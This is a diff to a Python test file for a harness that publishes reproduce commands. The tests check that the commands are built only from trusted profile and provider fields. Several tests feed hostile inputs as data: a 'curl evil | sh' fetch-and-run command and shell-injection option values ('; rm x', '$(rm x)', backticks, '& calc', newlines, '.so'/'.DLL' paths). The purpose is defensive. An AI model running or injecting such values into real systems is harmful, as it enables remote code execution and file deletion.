@@ -7,14 +7,16 @@ import re
 import shlex
 import zipfile
 from pathlib import Path
+from typing import Any
 from xml.etree import ElementTree as ET
 
 import pytest
 
 from harness.conformance.submission import Waiver
 from harness.core.errors import UsageError
-from harness.publication.entry import version_order
+from harness.publication.entry import Entry, version_order
 from harness.publication.operators import reach_of
+from harness.publication.rerun import Rerun, rerun_of
 from tests.conformance.small_profiles import operators_profile, tiny_profile
 from tests.conformance.submissions import changed, fallen, refused, wrong
 from tests.publication.publisher import Publisher
@@ -194,11 +196,65 @@ def test_hostile_names_stay_text(publisher: Publisher) -> None:
             assert "\u202e".encode() not in content, name
 
 
-def test_the_command_can_be_pasted(publisher: Publisher) -> None:
-    publisher.submit("one", reproduce=("ep-harness", "conform", "--option", "load_config={'a': 1}; rm x"))
-    (command,) = re.findall(r'<code class="command">(.*?)</code>', publisher.page("one"))
-    words = shlex.split(html.unescape(command))
-    assert words == ["ep-harness", "conform", "--option", "load_config={'a': 1}; rm x"]
+def command_of(page: str) -> list[str]:
+    (command,) = re.findall(r'<code class="command">(.*?)</code>', page)
+    return shlex.split(html.unescape(command))
+
+
+def test_the_command_is_made_of_profile_provider_and_options(publisher: Publisher) -> None:
+    """Never of the submission's own words, which verify all the same."""
+    publisher.submit("one", reproduce=("sh", "-c", "curl evil | sh"), claims=("contrib",))
+    page = publisher.page("one")
+    assert "curl" not in page
+    assert command_of(page) == [
+        *("ep-harness", "conform", "--profile", operators_profile().label),
+        *("--target", "QNNExecutionProvider", "--plugin", "onnxruntime_qnn"),
+        *("--option", "backend_type=htp", "--claim", "contrib"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("options", "shown", "without"),
+    [
+        ({"a": '{"CPU": {"HINT": "f32"}}'}, ['a={"CPU": {"HINT": "f32"}}'], ""),
+        ({"a": "1; rm x"}, [], "a"),
+        (
+            {"a": "$(rm x)", "b": "`rm x`", "c": "x' & calc '", "d": "1\nrm", "e": "%PATH%"},
+            [],
+            "a, b, c, d, e",
+        ),
+        ({"a": "./evil.so", "b": "evil.DLL", "c": "x\\y"}, [], "a, b, c"),
+        ({"backend_path": "evil"}, [], "backend_path"),
+        ({"--out": "x", "a=b": "c", "é": "1"}, [], "--out, a=b, é"),
+        ({"a": "é"}, [], "a"),
+    ],
+)
+def test_options_that_do_more_than_be_read_are_left_out(
+    publisher: Publisher, options: dict[str, str], shown: list[str], without: str
+) -> None:
+    entry = with_environment(publisher, provider_options=options)
+    again = rerun_of(entry)
+    words = shlex.split(again.command)
+    assert [words[at + 1] for at, word in enumerate(words) if word == "--option"] == shown
+    assert ", ".join(again.without) == without
+
+
+@pytest.mark.parametrize("name", ["--out", "x; rm y", "é", "", "x" * 101])
+def test_a_provider_with_another_name_has_no_command(publisher: Publisher, name: str) -> None:
+    assert rerun_of(with_environment(publisher, provider=name)) == Rerun()
+
+
+def test_a_browser_is_named(publisher: Publisher) -> None:
+    words = shlex.split(rerun_of(with_environment(publisher, runtime="browser")).command)
+    assert words[-1] == "--browser"
+    assert "rm" not in shlex.split(rerun_of(with_environment(publisher, runtime="node; rm")).command)
+
+
+def with_environment(publisher: Publisher, **changes: Any) -> Entry:
+    publisher.submit("one")
+    (entry,) = publisher.gathered().entries
+    environment = changed(entry.statement.environment, **changes)
+    return changed(entry, statement=changed(entry.statement, environment=environment))
 
 
 @pytest.mark.parametrize(
